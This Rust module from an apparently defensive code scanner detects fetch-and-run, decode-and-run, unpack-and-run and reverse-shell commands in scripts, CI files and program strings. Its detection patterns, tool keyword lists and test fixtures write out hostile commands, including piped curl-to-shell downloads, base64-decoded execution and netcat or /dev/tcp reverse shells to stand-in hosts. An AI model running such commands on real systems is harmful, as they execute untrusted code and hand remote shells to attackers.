//! Commands that fetch and run, decode and run, or open a shell to somebody: wherever shell text stands.
//!
//! Shell text stands in scripts, Makefiles, Dockerfiles, CI files, package manifests, m4 and in strings of
//! programs. The lexer is the shell's in miniature: pipes between words of one line, continuation lines
//! joined. Documents are left out: they tell people to type such lines.

use std::ops::Range;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::bytes::Regex;

use super::Check;
use super::Report;
use super::Subject;
use super::finder;
use super::lines_around;
use super::pattern;
use super::places;
use crate::model::scan::Confidence;
use crate::model::scan::Severity;
use crate::scan::draft::Draft;
use crate::scan::syntax::Kind;

pub const CHECK: Check = Check {
    rules: &["fetch-and-run", "decode-and-run", "unpack-and-run", "reverse-shell"],
    about: "Shell text that runs what it fetched or decoded, or connects a shell to the network.",
    run,
};

struct Pattern {
    rule: &'static str,
    category: &'static str,
    severity: Severity,
    pattern: Regex,
    message: &'static str,
    question: &'static str,
}

/// Programs that run what they read. Byte patterns without Unicode classes.
const SHELL: &str = r"(?:sudo\s+(?:-\S+\s+)*)?(?:/usr/bin/env\s+)?(?:/(?:usr/)?bin/)?(?:sh|bash|dash|zsh|ksh|python[0-9.]*|perl|ruby|node|php)\b";
const FETCH: &str = r"\b(?:curl|wget|fetch|lynx\s+-source|http)\b";
const DECODE: &str = r#"(?:base64\s+(?:-d|-D|--decode|-di)|openssl\s+(?:enc\s+)?(?:-base64\s+)?-d|openssl\s+enc\s+[^|\n]{0,80}-d\b|xxd\s+-r|uudecode|base32\s+-d|\|\s*rev\b|\brev\s*<<<|\btr\s+["']?(?:a-zA-Z|A-Za-z|a-z|A-Z)["']?\s+["']?(?:n-za-m|N-ZA-M)|\bprintf\s+["']?(?:\\x[0-9a-f]{2}){2,})"#;

static PATTERNS: LazyLock<Vec<Pattern>> = LazyLock::new(|| {
    let rows = [
        (
            "fetch-and-run",
            "flow.net->exec",
            Severity::Medium,
            format!(r#"{FETCH}[^|\n;&]{{0,400}}\|\s*(?:tee\s+\S+\s*\|\s*|tac\s*\|\s*|gunzip\s*\|\s*)?{SHELL}|{SHELL}\s+(?:-c\s+)?["']?(?:<\(|\$\(|`)\s*{FETCH}|\beval\s+["']?(?:\$\(|`)\s*{FETCH}|\biex\s*\(?\s*\(?\s*(?:new-object|iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)\b|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|\n;]{{0,300}}\|\s*(?:iex|invoke-expression)\b|downloadstring\s*\([^\n]{{0,300}}\)\s*\)?\s*\|\s*iex"#),
            "what is fetched here is run at once, and nobody can say what it will be tomorrow",
            "What is run here, and why is it not pinned and part of the source?",
        ),
        (
            "decode-and-run",
            "obf.encoded-exec",
            Severity::High,
            format!(r#"{DECODE}[^|\n;&]{{0,200}}\|\s*(?:(?:gunzip|gzip\s+-d\w*|zcat|xz\s+-d\w*|bunzip2|zstd\s+-d\w*|tr\s+[^|\n]{{1,80}})\s*\|\s*)*{SHELL}|(?:\beval|{SHELL}\s+-c|{SHELL}\s*<<<)\s*["']?(?:\$\(|`)[^\n]{{0,400}}{DECODE}|(?:^|\n|[;&|]\s*)\s*\$\([^)\n]{{0,200}}{DECODE}|\b(?:python[0-9.]*|perl|ruby|node|php)\s+-[cer]\s+["'][^\n]{{0,200}}(?:b64decode|base64_decode|atob\(|decode64|fromhex|unhexlify|marshal\.loads)|\beval\s+["']?\$[^\n|]{{1,80}}\|\s*{SHELL}|powershell[^\n]{{0,120}}\s-e(?:nc|ncodedcommand|c)?\s+[A-Za-z0-9+/=]{{24,}}|["'](?:powershell|pwsh)(?:\.exe)?["'][^\n]{{0,160}}["']-e(?:nc|ncodedcommand|c)?["']\s*,\s*["'][A-Za-z0-9+/=]{{8,}}"#),
            "what is decoded here is run: its text cannot be read where it stands",
            "Why is this command encoded?",
        ),
        (
            "unpack-and-run",
            "obf.steganography",
            Severity::High,
            format!(r"(?:\btr\s+[^|\n]{{1,120}}|\bhead\s+-c[^|\n]{{1,80}}|\btail\s+-c[^|\n]{{1,80}}|\bsed\s+[^|\n]{{1,120}}|\bdd\s+if=[^|\n]{{1,120}})\|\s*(?:[^|\n]{{1,160}}\|\s*){{0,4}}(?:xz|gzip|bzip2|zstd|lzma)\s+-\w*d\w*[^|\n]{{0,60}}\|\s*(?:(?:head|tail|dd|tr|cut)\b[^|\n]{{0,80}}\|\s*){{0,3}}{SHELL}"),
            "bytes cut out of a file are decompressed and run",
            "Which file is this cut from, and why does data hold a program?",
        ),
        (
            "reverse-shell",
            "trap.backdoor",
            Severity::High,
            r#"(?:bash|sh)\s+-i\s*[0-9]*[>&]+\s*/dev/(?:tcp|udp)/|/dev/tcp/[^\s"']{3,80}\s*0?[<>]&|\b(?:nc|ncat|netcat)\s+(?:-\S+\s+)*[^\n|;]{0,80}\s-(?:e|c)\s+/bin/|mkfifo\s+[^\n]{1,120}\|\s*(?:nc|ncat|telnet|openssl\s+s_client)\b|\bsocat\b[^\n]{0,120}exec:["']?(?:/bin/)?(?:ba)?sh|pty\.spawn\(["']/bin/(?:ba)?sh"#.to_owned(),
            "a shell is connected to the network",
            "Who is meant to be at the other end of this shell?",
        ),
    ];
    rows.into_iter()
        .filter_map(|(rule, category, severity, text, message, question)| {
            let pattern = pattern(&format!("(?i){text}"))?;
            Some(Pattern { rule, category, severity, pattern, message, question })
        })
        .collect()
});

/// One of these stands in whatever a pattern finds: a file without any is not searched further.
const NEEDLES: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "lynx",
    "http",
    "base64",
    "base32",
    "xxd",
    "openssl",
    "uudecode",
    "rev",
    "iex",
    "iwr",
    "irm",
    "invoke-",
    "powershell",
    "/dev/tcp",
    "/dev/udp",
    "nc ",
    "ncat",
    "netcat",
    "mkfifo",
    "socat",
    "pty.spawn",
    "xz ",
    "gzip ",
    "bzip2 ",
    "zstd ",
    "lzma ",
    "eval ",
    "printf ",
    "marshal",
    "fromhex",
    "atob",
    "decode64",
];

static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| finder(NEEDLES));

/// One of these stands on every line that joins what is fetched or decoded to what runs it.
const JOINTS: &[&str] = &[
    "|",
    "<(",
    "$(",
    "`",
    "<<<",
    "eval",
    "iex",
    "python",
    "perl",
    "ruby",
    "node",
    "php",
    "powershell",
    "pwsh",
    "/dev/tcp",
    "/dev/udp",
    "nc ",
    "nc\t",
    "ncat",
    "netcat",
    "socat",
    "pty.spawn",
];

static JOINER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| finder(JOINTS));

fn run(subject: &Subject, report: &mut Report) {
    let bytes = subject.bytes();
    let Some(finder) = FINDER.as_ref() else { return };
    if subject.is_prose() || subject.classified.language == "css" {
        return;
    }
    // Shell text in one of these languages is the text itself; elsewhere it stands in strings.
    let shell = matches!(
        subject.classified.language,
        "bash"
            | "make"
            | "dockerfile"
            | "yaml"
            | "m4"
            | "powershell"
            | "batch"
            | "fish"
            | "cmake"
            | "config"
            | "groovy"
            | "xml"
            | "json"
            | "toml"
            | "ini"
    );
    let stretches = if shell {
        let all = finder.is_match(bytes).then_some(0..bytes.len());
        all.into_iter().collect()
    } else {
        let mut lines = lines_around(bytes, places(Some(finder), bytes), 0, 2);
        lines.retain(|line| {
            let text = bytes.get(line.clone()).unwrap_or_default();
            holds_text(subject, line) && JOINER.as_ref().is_none_or(|joiner| joiner.is_match(text))
        });
        lines
    };
    for pattern in PATTERNS.iter() {
        let mut last = 0;
        let found = stretches.iter().flat_map(|stretch| {
            let part = bytes.get(stretch.clone()).unwrap_or_default();
            let found = pattern.pattern.find_iter(part);
            found.map(|hit| stretch.start + hit.start()..stretch.start + hit.end())
        });
        for hit in found.take(50) {
            let at = hit.start;
            if subject.in_comment(at) || at < last {
                continue;
            }
            let line = bytes.get(hit.clone()).unwrap_or_default();
            last = hit.end;
            if !shell && !quoted(subject, at) || is_talk(bytes, at) {
                continue;
            }
            let doubtful = pattern.rule == "fetch-and-run" && unsafe_origin(line);
            report.drafts.push(Draft {
                rule: pattern.rule,
                category: pattern.category,
                severity: if doubtful { Severity::High } else { pattern.severity },
                confidence: if shell { Confidence::High } else { Confidence::Medium },
                start: at,
                end: hit.end,
                message: pattern.message.to_owned(),
                question: pattern.question,
                key: String::new(),
            });
        }
    }
}

/// What a command does that no install step needs, as a sentence fragment.
pub fn command_risk(command: &str) -> Option<&'static str> {
    let lower = command.to_ascii_lowercase();
    if PATTERNS.iter().any(|pattern| pattern.pattern.is_match(command.as_bytes())) {
        return Some("runs what it fetched or decoded");
    }
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    if has(&[
        "curl ",
        "wget ",
        "http://",
        "https://",
        "invoke-webrequest",
        "certutil",
        "bitsadmin",
        "/dev/tcp",
        "nslookup",
        " dig ",
    ]) {
        return Some("reaches for the network");
    }
    if has(&[
        "node -e",
        "node --eval",
        "python -c",
        "python3 -c",
        "perl -e",
        "ruby -e",
        "powershell",
        "eval ",
        "base64",
        "bash -c",
        "sh -c \"$(",
    ]) {
        return Some("runs code given on its command line");
    }
    None
}

/// The lines of `bytes` with their offsets, without line ends.
pub fn lines(bytes: &[u8]) -> impl Iterator<Item = (usize, &[u8])> {
    let mut at = 0;
    bytes.split(|b| *b == b'\n').map(move |line| {
        let start = at;
        at += line.len() + 1;
        (start, line.strip_suffix(b"\r").unwrap_or(line))
    })
}

/// Whether a string literal stands in `stretch`, or part of one.
fn holds_text(subject: &Subject, stretch: &Range<usize>) -> bool {
    let first = subject.spans.partition_point(|span| span.range.end <= stretch.start);
    let spans = subject.spans.get(first..).unwrap_or_default();
    spans.iter().take_while(|span| span.range.start < stretch.end).any(|span| span.kind == Kind::String)
}

/// Whether the place is in a string literal: elsewhere in a program, shell text is none.
fn quoted(subject: &Subject, at: usize) -> bool {
    crate::scan::syntax::kind_at(subject.spans, at).is_some()
}

/// Whether the line only shows the command to a person.
fn is_talk(bytes: &[u8], at: usize) -> bool {
    let before = bytes.get(at.saturating_sub(200)..at).unwrap_or_default();
    let start = before.iter().rposition(|b| *b == b'\n').map_or(0, |n| n + 1);
    let line = before.get(start..).unwrap_or_default().to_ascii_lowercase();
    let line = line.trim_ascii_start();
    let begins = [
        &b"echo"[..],
        b"print",
        b"log",
        b"info",
        b"warn",
        b"die",
        b"error",
        b"message",
        b"say",
        b"console.",
        b"raise",
        b"throw",
        b"as_echo",
        b"description",
        b"title",
        b"@echo",
        b"printf",
        b"#",
        b"//",
        b"*",
    ];
    // What is echoed into a pipe is run all the same.
    let piped = line.contains(&b'|');
    begins.iter().any(|word| line.starts_with(word)) && !piped
}

/// Whether what is fetched comes without encryption, from a bare address or from a place nobody owns.
fn unsafe_origin(command: &[u8]) -> bool {
    let addresses = crate::scan::address::urls(command, 4);
    addresses.iter().any(|address| {
        let host = address.host.as_deref().unwrap_or_default();
        let numeric = host.parse::<std::net::IpAddr>().is_ok();
        let known =
            crate::scan::indicators::host(host, &address.path).is_some_and(|known| known.severity.is_some());
        address.value.starts_with("http://") || numeric || known
    })
}

#[cfg(test)]
mod tests {
    use super::super::tests::found;
    use super::PATTERNS;
    use crate::model::scan::Severity;

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(PATTERNS.len(), 4);
    }

    #[test]
    fn shell_that_runs_what_it_did_not_hold_is_found() {
        use Severity::High;
        use Severity::Medium;
        let cases = [
            ("i.sh", "curl -fsSL https://t.example.com/i.sh | sudo bash -s --\n", "fetch-and-run", Medium),
            ("i.sh", "curl http://45.33.32.156/x | sh\n", "fetch-and-run", High),
            ("Dockerfile", "FROM x\nRUN wget -qO- https://t.example.com/i | sh\n", "fetch-and-run", Medium),
            ("Makefile", "all:\n\tbash <(curl -s https://t.example.com/i)\n", "fetch-and-run", Medium),
            (
                ".github/workflows/a.yml",
                "on: push\njobs:\n  a:\n    steps:\n    - run: eval \"$(curl -s https://t.example.com)\"\n",
                "fetch-and-run",
                Medium,
            ),
            (
                "a.ps1",
                "iex (New-Object Net.WebClient).DownloadString('https://t.example.com/a')\n",
                "fetch-and-run",
                Medium,
            ),
            ("a.py", "os.system('curl -s https://t.example.com/x | sh')\n", "fetch-and-run", Medium),
            ("a.sh", "echo aWQK | base64 -d | sh\n", "decode-and-run", High),
            ("a.sh", "eval \"$(echo aWQK | base64 --decode)\"\n", "decode-and-run", High),
            ("a.js", "exec('echo aWQK | base64 -d | bash')\n", "decode-and-run", High),
            (
                "a.m4",
                "eval x; sed rpath ../../tests/files/bad-3.xz | tr \"a\" \"b\" | xz -d 2>/dev/null | /bin/sh\n",
                "unpack-and-run",
                High,
            ),
            ("a.sh", "bash -i >& /dev/tcp/t.example.com/4444 0>&1\n", "reverse-shell", High),
            ("a.sh", "nc t.example.com 4444 -e /bin/sh\n", "reverse-shell", High),
        ];
        for (name, content, rule, severity) in cases {
            assert!(
                found(name, content).contains(&(rule, severity)),
                "{content}: {:?}",
                found(name, content)
            );
        }
    }

    #[test]
    fn what_is_told_fetched_or_decoded_without_being_run_is_not() {
        let cases = [
            ("README.md", "curl https://t.example.com | sh\n"),
            ("a.sh", "# curl https://t.example.com | sh\n"),
            ("a.sh", "echo \"run: curl https://t.example.com | sh\"\n"),
            ("a.sh", "curl https://t.example.com -o x\ntar xf x\n"),
            ("a.sh", "curl https://t.example.com/v | grep shell\n"),
            ("a.sh", "echo aWQK | base64 -d > file\n"),
            ("a.py", "x = base64.b64decode(y)\n"),
            ("a.c", "/* wget | sh */ int x;\n"),
            ("a.sh", "xz -d < a.xz | tar x\n"),
        ];
        for (name, content) in cases {
            assert_eq!(found(name, content), [], "{name}: {content}");
        }
    }
}
